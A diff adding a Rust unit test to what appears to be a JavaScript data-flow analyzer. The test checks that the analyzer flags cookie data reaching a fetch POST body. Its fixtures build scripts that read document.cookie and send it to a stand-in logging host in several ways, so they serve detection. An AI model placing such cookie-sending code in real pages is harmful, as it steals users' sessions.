@@ -362,6 +362,32 @@ fn the_account_that_something_is_sent_to_is_told_from_another() {
 }
 
 #[test]
+fn what_is_put_into_an_object_that_is_sent_is_told_from_something_else_however_it_is_put() {
+    for put in [
+        "o.body = IT",
+        "o.a.body = IT",
+        "[o.body] = [IT]",
+        "({ x: o.body } = { x: IT })",
+        "for (o.body of [IT]);",
+        "l.push(IT)",
+        "l['push'](IT)",
+        "l.fill(IT)",
+        "o.a.l.push(IT)",
+    ] {
+        let script = |it: &str| {
+            let begun =
+                "(function () { var c = document.cookie, n = 1, o = { a: { l: [] } }, l = []; use(c.length)";
+            let sent =
+                "fetch('https://v.test/log', { method: 'POST', body: o.a.body + o.a.l + o.body + l.join() })";
+            format!("{begun}; {}; {sent} }})()", put.replace("IT", it))
+        };
+        let findings = changed(script("n").as_bytes(), script("c").as_bytes());
+        let found: Vec<_> = findings.facts.iter().map(|fact| fact.capability).collect();
+        assert!(found.contains(&Capability::Fetch), "{put}: {found:?}");
+    }
+}
+
+#[test]
 fn what_a_socket_sends_is_compared() {
     let (old, new) =
         (b"var w = new WebSocket(u); w.send(a.text)", b"var w = new WebSocket(u); w.send(a.card)");
